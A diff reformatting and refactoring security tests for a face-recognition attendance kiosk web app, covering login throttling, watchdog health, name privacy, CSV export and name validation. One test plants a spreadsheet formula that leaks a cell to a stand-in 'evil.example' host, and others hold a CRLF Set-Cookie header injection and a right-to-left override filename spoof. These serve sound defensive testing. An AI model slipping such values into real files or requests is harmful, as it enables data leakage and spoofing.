@@ -17,21 +17,21 @@ import pytest
 from PIL import Image
 
 from kiosk.config import Config, KioskSettings, WebSettings
-from kiosk.loop import Screen, Status
-from kiosk.web import Services, create_app, passwords
+from kiosk.status import Screen, Status
+from kiosk.web import create_app, passwords
+from tests.helpers import PASSWORD, punch, services, token_of
 
-PASSWORD = "correct horse battery"
 REMOTE = {"REMOTE_ADDR": "10.0.0.66"}
 
 
 def make_app(tmp_path, **web):
     passwords.set_password(tmp_path, PASSWORD)
     config = Config(kiosk=KioskSettings(data_dir=tmp_path), web=WebSettings(**web))
-    return create_app(config, Services(Status(), str(tmp_path / "kiosk.db")), {"TESTING": True, "SSE_ONCE": True})
+    return create_app(config, services(tmp_path / "kiosk.db", Status()), {"TESTING": True, "SSE_ONCE": True})
 
 
 def csrf(client, path="/admin/login", **kw):
-    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get(path, **kw).get_data(as_text=True)).group(1)
+    return token_of(client.get(path, **kw).get_data(as_text=True))
 
 
 def login(client, password=PASSWORD, **kw):
@@ -63,9 +63,11 @@ def test_1_parallel_wrong_logins_check_at_most_five_passwords_one_at_a_time(tmp_
     codes = []
 
     def attempt(client, token):
-        codes.append(client.post("/admin/login", data={"csrf_token": token, "password": "wrong guess!"}, environ_base=REMOTE).status_code)
+        codes.append(
+            client.post("/admin/login", data={"csrf_token": token, "password": "wrong guess!"}, environ_base=REMOTE).status_code
+        )
 
-    threads = [threading.Thread(target=attempt, args=pair) for pair in zip(clients, tokens)]
+    threads = [threading.Thread(target=attempt, args=pair) for pair in zip(clients, tokens, strict=True)]
     for t in threads:
         t.start()
     for t in threads:
@@ -96,8 +98,13 @@ def test_2_the_watchdog_is_fed_with_the_camera_disabled(tmp_path):
     env = dict(os.environ, NOTIFY_SOCKET=path, WATCHDOG_USEC="2000000", KIOSK_DATA_DIR=str(tmp_path / "data"))
     config = tmp_path / "kiosk.toml"
     config.write_text("[camera]\nsource = 'none'\n[web]\nport = 18734\n")
-    proc = subprocess.Popen([sys.executable, "-m", "kiosk", "-c", str(config), "run"], env=env,
-                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "kiosk", "-c", str(config), "run"],
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     try:
         messages = []
         deadline = time.monotonic() + 40
@@ -113,12 +120,15 @@ def test_2_the_watchdog_is_fed_with_the_camera_disabled(tmp_path):
 def test_2_the_heartbeat_stops_feeding_when_the_process_is_not_healthy():
     from kiosk.health import Heartbeat, Verdict, judge
 
-    assert judge(web_alive=True, loop_expected=False, loop_alive=False, last_progress=0, now=100, stall_seconds=30,
-                 database_problem=None).healthy  # admin-only: no loop to wait for
-    assert not judge(web_alive=True, loop_expected=True, loop_alive=True, last_progress=0, now=100, stall_seconds=30,
-                     database_problem=None).healthy
-    assert not judge(web_alive=False, loop_expected=False, loop_alive=False, last_progress=0, now=0, stall_seconds=30,
-                     database_problem=None).healthy
+    assert judge(
+        web_alive=True, loop_expected=False, loop_alive=False, last_progress=0, now=100, stall_seconds=30, database_problem=None
+    ).healthy  # admin-only: no loop to wait for
+    assert not judge(
+        web_alive=True, loop_expected=True, loop_alive=True, last_progress=0, now=100, stall_seconds=30, database_problem=None
+    ).healthy
+    assert not judge(
+        web_alive=False, loop_expected=False, loop_alive=False, last_progress=0, now=0, stall_seconds=30, database_problem=None
+    ).healthy
 
     class Notifier:
         def __init__(self):
@@ -136,7 +146,9 @@ def test_2_the_heartbeat_stops_feeding_when_the_process_is_not_healthy():
     beat = Heartbeat(notifier, lambda: next(verdicts), 1.0, fatal.append)
     for _ in range(3):
         beat.beat()
-    assert notifier.sent == ["WATCHDOG=1", "unhealthy: the database file was deleted"] and fatal == ["the database file was deleted"]
+    assert notifier.sent == ["WATCHDOG=1", "unhealthy: the database file was deleted"] and fatal == [
+        "the database file was deleted"
+    ]
 
 
 # -- 3. names on /status and /events -----------------------------------------------------------------
@@ -144,7 +156,9 @@ def test_3_the_network_sees_no_names_and_the_admin_does(tmp_path):
     app = make_app(tmp_path)
     status = app.config["SERVICES"].status
     status.show(Screen("already", "Hello Colin Powell", "already recorded at 08:59 (IN)", public_title="Hello"))
-    status.last_recognitions.appendleft({"employee_id": 1, "name": "Colin Powell", "direction": "in", "at": "2026-11-23T08:59:00+00:00"})
+    status.last_recognitions.appendleft(
+        {"employee_id": 1, "name": "Colin Powell", "direction": "in", "at": "2026-11-23T08:59:00+00:00"}
+    )
     client = app.test_client()
     for path in ("/status", "/events", "/"):
         assert b"Colin" not in client.get(path, environ_base=REMOTE).data
@@ -190,15 +204,20 @@ def test_4_use_does_not_renew_a_session_and_tls_makes_cookies_secure(tmp_path):
 # -- 5. CSV formula injection and header injection ---------------------------------------------------
 def test_5_csv_exports_neutralise_formulas_and_reject_bad_dates(tmp_path):
     from kiosk.store import Store
-    from tests.conftest import punch
 
     app = make_app(tmp_path)
     client = app.test_client()
     login(client)
     store = Store(tmp_path / "kiosk.db")
-    evil = store.add_employee('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', image=None, face=None,
-                              crop=np.zeros((8, 8, 3), np.uint8), embedding=np.ones(4, np.float32), model_version="v")
-    punch(store, evil, dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.timezone.utc))
+    evil = store.add_employee(
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+        image=None,
+        face=None,
+        crop=np.zeros((8, 8, 3), np.uint8),
+        embedding=np.ones(4, np.float32),
+        model_version="v",
+    )
+    punch(store, evil, dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC))
     text = client.get("/admin/attendance.csv?from=2026-11-22&to=2026-11-24").get_data(as_text=True)
     assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
     assert client.get("/admin/attendance.csv?to=2026-11-23%0D%0ASet-Cookie:%20x=1").status_code == 400
@@ -239,7 +258,7 @@ def test_6_big_photos_are_decoded_small_and_one_at_a_time(monkeypatch):
 
 # -- 7. database faults: see tests/test_faults.py (processes) and tests/test_store.py (files) ---------
 def test_7_a_second_kiosk_and_a_restore_are_refused_while_one_runs(tmp_path):
-    from kiosk.store import DataDirLocked, lock_data_dir
+    from kiosk.data_folder import DataDirLocked, lock_data_dir
 
     held = lock_data_dir(tmp_path)
     try:
@@ -247,8 +266,13 @@ def test_7_a_second_kiosk_and_a_restore_are_refused_while_one_runs(tmp_path):
             lock_data_dir(tmp_path)
         env = dict(os.environ, KIOSK_DATA_DIR=str(tmp_path))
         (tmp_path / "backup.db").write_bytes(b"")
-        result = subprocess.run([sys.executable, "-m", "kiosk", "restore", str(tmp_path / "backup.db")], env=env,
-                                capture_output=True, text=True, timeout=60)
+        result = subprocess.run(
+            [sys.executable, "-m", "kiosk", "restore", str(tmp_path / "backup.db")],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
         assert result.returncode == 1 and "a kiosk is running on this data folder" in result.stderr
     finally:
         held.close()
@@ -266,13 +290,16 @@ def test_8_a_port_out_of_range_is_refused_not_wrapped(tmp_path):
 
 
 # -- 9. names ----------------------------------------------------------------------------------------
-@pytest.mark.parametrize("name,needle", [
-    ("A" * 101, "at most 100 characters"),
-    ("Alice\nBob", "line breaks, tabs"),
-    ("Alice\tBob", "line breaks, tabs"),
-    ("Bob\u202egnp.exe", "text-direction"),
-    ("   ", "A name is required"),
-])
+@pytest.mark.parametrize(
+    "name,needle",
+    [
+        ("A" * 101, "at most 100 characters"),
+        ("Alice\nBob", "line breaks, tabs"),
+        ("Alice\tBob", "line breaks, tabs"),
+        ("Bob\u202egnp.exe", "text-direction"),
+        ("   ", "A name is required"),
+    ],
+)
 def test_9_one_name_rule_for_the_cli_the_web_and_the_store(tmp_path, name, needle):
     from kiosk.names import InvalidName, clean_name
     from kiosk.store import Store
@@ -280,8 +307,9 @@ def test_9_one_name_rule_for_the_cli_the_web_and_the_store(tmp_path, name, needl
     with pytest.raises(InvalidName, match=needle):
         clean_name(name)
     with pytest.raises(InvalidName, match=needle):
-        Store(tmp_path / "k.db").add_employee(name, image=None, face=None, crop=np.zeros((8, 8, 3), np.uint8),
-                                              embedding=np.ones(4, np.float32), model_version="v")
+        Store(tmp_path / "k.db").add_employee(
+            name, image=None, face=None, crop=np.zeros((8, 8, 3), np.uint8), embedding=np.ones(4, np.float32), model_version="v"
+        )
     assert clean_name("  José  María Ñúñez 李小龍 ") == "José  María Ñúñez 李小龍"
 
 
@@ -317,10 +345,24 @@ def test_12_messages_read_as_sentences(tmp_path):
 
     model = tmp_path / "m.tflite"
     model.write_bytes(default_model_path().read_bytes())
-    (tmp_path / "m.json").write_text(json.dumps({"format": "kiosk-face-embedding/1", "version": "x", "input_size": [64, 64],
-                                                 "color_order": "RGB", "normalization": {"mean": 0, "std": 1}, "alignment": "dlib150",
-                                                 "embedding_size": 128, "distance": "cosine", "threshold": "0.4"}))
+    (tmp_path / "m.json").write_text(
+        json.dumps(
+            {
+                "format": "kiosk-face-embedding/1",
+                "version": "x",
+                "input_size": [64, 64],
+                "color_order": "RGB",
+                "normalization": {"mean": 0, "std": 1},
+                "alignment": "dlib150",
+                "embedding_size": 128,
+                "distance": "cosine",
+                "threshold": "0.4",
+            }
+        )
+    )
     with pytest.raises(ContractError) as err:
         load_contract(model)
     assert "'threshold' must be a number, got '0.4'" in str(err.value) and "<class" not in str(err.value)
-    assert all("photo" in text and "please" not in text.lower() for text in PHOTO_REASONS.values())  # about the photo, not the kiosk
+    assert all(
+        "photo" in text and "please" not in text.lower() for text in PHOTO_REASONS.values()
+    )  # about the photo, not the kiosk
